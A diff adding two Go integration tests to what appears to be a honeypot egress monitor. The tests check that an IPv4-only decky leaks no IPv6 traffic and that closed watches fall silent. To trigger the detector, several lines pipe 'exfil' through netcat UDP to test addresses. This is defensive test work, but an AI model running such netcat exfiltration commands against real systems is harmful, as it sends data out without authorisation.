@@ -4,6 +4,7 @@ import (
 	"encoding/binary"
 	"net"
 	"net/netip"
+	"os/exec"
 	"slices"
 	"strings"
 	"testing"
@@ -11,6 +12,7 @@ import (
 
 	"golang.org/x/sys/unix"
 
+	"github.com/decnet/decnet/fleet/internal/egress"
 	"github.com/decnet/decnet/internal/enginetest"
 )
 
@@ -124,6 +126,61 @@ func TestW17_AnswersLeaveAndNothingElse(t *testing.T) {
 	greeting(t, attackerNS, addr4+":"+served)
 	if out := strings.Join(packets(), "\n"); strings.Contains(out, outside4) || !strings.Contains(out, "."+served+" > "+attacker4) {
 		t.Errorf("after the first lock:\n%s", out)
+	}
+}
+
+// TestOfADeckyWithoutIPv6NothingOfThatLeaves gives a decky that is locked as one without IPv6
+// some nevertheless, and tries to reach out by it and to be found.
+func TestOfADeckyWithoutIPv6NothingOfThatLeaves(t *testing.T) {
+	lan := newDecky(t)
+	serve(t, deckyNS, served)
+	var seen recorder
+	lockAs(t, &seen, egress.Options{Decky: "web", IPv4Only: true})
+	packets := capture(t, lan)
+	inside(t, "busybox ping -c 1 -W 1 "+attacker6)
+	waitFor(t, "event of a ping", func() bool { return len(seen.of("icmpv6", attacker6, "")) > 0 })
+	lan.Attack(t, "ip", "-6", "neigh", "flush", "dev", "att0")
+	lan.Attack(t, "busybox", "ping", "-c", "1", "-W", "1", addr6)
+	if got := greeting(t, attackerNS, addr4+":"+served); got != "hello" {
+		t.Errorf("by IPv4 it says %q", got)
+	}
+	for _, l := range packets() {
+		if strings.HasPrefix(l, "IP6 ") {
+			t.Errorf("this left: %s", l)
+		}
+	}
+}
+
+// TestClosedWatchesAreSilent closes one of two watches of a reporter, and then the reporter.
+func TestClosedWatchesAreSilent(t *testing.T) {
+	newDecky(t)
+	var seen recorder
+	r, err := egress.NewReporter(&seen, time.Now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer r.Close()
+	var mine, theirs *egress.Watch
+	within(t, deckyNS, func() { mine, err = r.Lock(egress.Options{Decky: "web"}) })
+	if err != nil {
+		t.Fatal(err)
+	}
+	within(t, attackerNS, func() { theirs, err = r.Lock(egress.Options{Decky: "other"}) })
+	if err != nil {
+		t.Fatal(err)
+	}
+	theirs.Close()
+	theirs.Close() // which does nothing
+	within(t, attackerNS, func() { _ = exec.Command("sh", "-c", "echo exfil | nc -u -w 1 "+addr4+" 9").Run() })
+	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 9")
+	waitFor(t, "event of the watch that is open", func() bool { return len(seen.of("udp", outside4, "9")) == 1 })
+	r.Close()
+	mine.Close() // which does nothing either
+	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 10")
+	seen.mu.Lock()
+	defer seen.mu.Unlock()
+	if len(seen.events) != 1 {
+		t.Errorf("%d events: %+v", len(seen.events), seen.events)
 	}
 }
 
